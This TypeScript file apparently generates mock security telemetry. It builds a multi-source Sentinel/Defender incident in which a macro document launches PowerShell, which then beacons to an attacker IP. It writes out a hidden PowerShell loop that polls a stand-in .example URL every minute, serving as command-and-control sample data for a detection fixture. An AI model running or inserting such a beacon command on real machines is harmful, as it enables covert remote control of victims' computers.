/**
 * One incident that firewall, mail, endpoint and a custom application tell together: Sentinel's Fusion and scheduled rules
 * with Defender's own alerts, joined by the same user and device.
 */
import { attackerIp, elsewhere } from '@/mocks/company/sites';
import { binaries } from '@/mocks/company/telemetry/binaries';
import { raiseAlert } from '@/mocks/scenarios/kernel/alert';
import { clockOf, windowsVictimOf } from '@/mocks/scenarios/kernel/cast';
import {
  deviceEvidence,
  ipEvidence,
  processEvidence,
  urlEvidence,
  userEvidence,
} from '@/mocks/scenarios/kernel/evidence';
import { connectionLine, processLine, program } from '@/mocks/scenarios/kernel/lines';
import { batches, type Line } from '@/mocks/scenarios/kernel/rows';
import { ruleIds } from '@/mocks/scenarios/kernel/rules';
import type { Scene, Story, Telling } from '@/mocks/scenarios/kernel/story';
import { verdicts } from '@/mocks/scenarios/kernel/verdicts';

function tell(scene: Scene): Telling {
  const { random } = scene;
  const at = clockOf(scene);
  const { person, laptop } = windowsVictimOf(scene);
  const beacon = { ip: attackerIp(120 + random.int(60)), place: elsewhere.chisinau };
  const url = `https://${random.hex(6)}.cdn-edge.example/poll`;
  const powershell = program(
    binaries.powershell,
    'powershell.exe -w hidden -nop -c "while(1){iwr $u;sleep 60}"',
    at(5),
    'WINWORD.EXE',
  );
  const user = { at: at(30), roles: ['compromised'], verdict: 'suspicious', remediation: 'active' } as const;
  const device = { at: at(30), roles: ['attacked'], verdict: 'malicious', remediation: 'active' } as const;
  const address = { at: at(30), roles: ['commandAndControl'], verdict: 'malicious', remediation: 'active' } as const;
  return {
    title: `Multi-stage incident involving Execution & Command and control on one endpoint reported by multiple sources`,
    description: `Firewall, mail, endpoint and the expenses application agree about ${person.upn} and ${laptop.hostName}.`,
    severity: 'high',
    tags: ['Multi-source'],
    alerts: [
      raiseAlert({
        product: 'office',
        key: random.guid(),
        title: 'Malicious attachment opened',
        description: 'A macro document was opened from the inbox.',
        severity: 'medium',
        category: 'InitialAccess',
        techniques: ['T1566.001'],
        firstAt: at(0),
        lastAt: at(4),
        createdAt: at(8),
        evidence: [userEvidence(person, user), urlEvidence(url, { at: at(8), verdict: 'malicious' })],
      }),
      raiseAlert({
        product: 'endpoint',
        key: random.guid(),
        title: 'Suspicious PowerShell command line',
        description: 'Word started a hidden PowerShell loop.',
        severity: 'high',
        category: 'Execution',
        techniques: ['T1059.001'],
        firstAt: at(5),
        lastAt: at(6),
        createdAt: at(12),
        evidence: [
          deviceEvidence(laptop, device),
          userEvidence(person, user),
          processEvidence(
            {
              binary: binaries.powershell,
              commandLine: powershell.commandLine,
              pid: powershell.pid,
              startedAt: at(5),
              parent: binaries.word,
              parentPid: powershell.parentPid,
              person,
            },
            laptop,
            { at: at(12), verdict: 'malicious', remediation: 'active' },
          ),
        ],
      }),
      raiseAlert({
        product: 'sentinel',
        key: random.guid(),
        title: 'Beaconing pattern in firewall traffic',
        description: 'Connections of the same size to one address every minute.',
        severity: 'medium',
        category: 'CommandAndControl',
        techniques: ['T1071.001'],
        firstAt: at(6),
        lastAt: at(20),
        createdAt: at(25),
        ruleId: ruleIds.firewallBeacon,
        evidence: [
          ipEvidence(beacon.ip, beacon.place, address),
          ipEvidence(laptop.ip, null, { at: at(25), roles: ['source'] }),
        ],
      }),
      raiseAlert({
        product: 'sentinel',
        key: random.guid(),
        title: 'Contoso Expenses: export by a user at risk',
        description: 'The application logged an export of every claim.',
        severity: 'medium',
        category: 'Collection',
        techniques: ['T1213'],
        firstAt: at(18),
        lastAt: at(19),
        createdAt: at(28),
        ruleId: ruleIds.threatIntelligence,
        evidence: [userEvidence(person, user)],
      }),
      raiseAlert({
        product: 'sentinel',
        key: random.guid(),
        title: 'Advanced multistage attack detected by Fusion',
        description: 'Fusion joined signals of low confidence to one of high.',
        severity: 'high',
        category: 'CommandAndControl',
        techniques: ['T1071'],
        firstAt: at(0),
        lastAt: at(20),
        createdAt: at(30),
        detectionSource: 'builtInMl',
        ruleId: ruleIds.fusion,
        evidence: [
          userEvidence(person, user),
          deviceEvidence(laptop, device),
          ipEvidence(beacon.ip, beacon.place, address),
        ],
      }),
    ],
    steps: [
      {
        at: at(5),
        what: 'A Word document starts PowerShell',
        technique: 'T1059.001',
        rows: () =>
          batches([
            processLine(
              laptop,
              person,
              program(binaries.word, '"WINWORD.EXE" /n "Offer.docm"', at(4), 'OUTLOOK.EXE'),
              powershell,
            ),
          ]),
      },
      {
        at: at(6),
        what: 'It polls an address every minute, seen by endpoint and firewall',
        technique: 'T1071.001',
        rows: () => batches(Array.from({ length: 12 }, (_, index) => poll(at(6 + index))).flat()),
      },
    ],
  };

  function poll(when: number): Line[] {
    const remoteUrl = url.slice('https://'.length).split('/')[0] ?? '';
    const firewall = {
      TimeGenerated: when,
      DeviceVendor: 'Palo Alto Networks',
      DeviceProduct: 'PAN-OS',
      DeviceName: `fw-${laptop.site.code.toLowerCase()}-01`,
      Activity: 'TRAFFIC',
      DeviceAction: 'allow',
      ApplicationProtocol: 'ssl',
      SourceIP: laptop.ip,
      DestinationIP: beacon.ip,
      DestinationPort: 443,
      SentBytes: 512,
      ReceivedBytes: 128,
      SourceUserName: person.upn,
    };
    return [
      connectionLine(when, laptop, person, powershell, { remoteIp: beacon.ip, remotePort: 443, remoteUrl }),
      ['CommonSecurityLog', firewall],
    ];
  }
}

export const firewallToEndpoint: Story = {
  name: 'firewall-to-endpoint',
  weight: 3,
  verdicts: [verdicts.multiStage],
  tell,
};
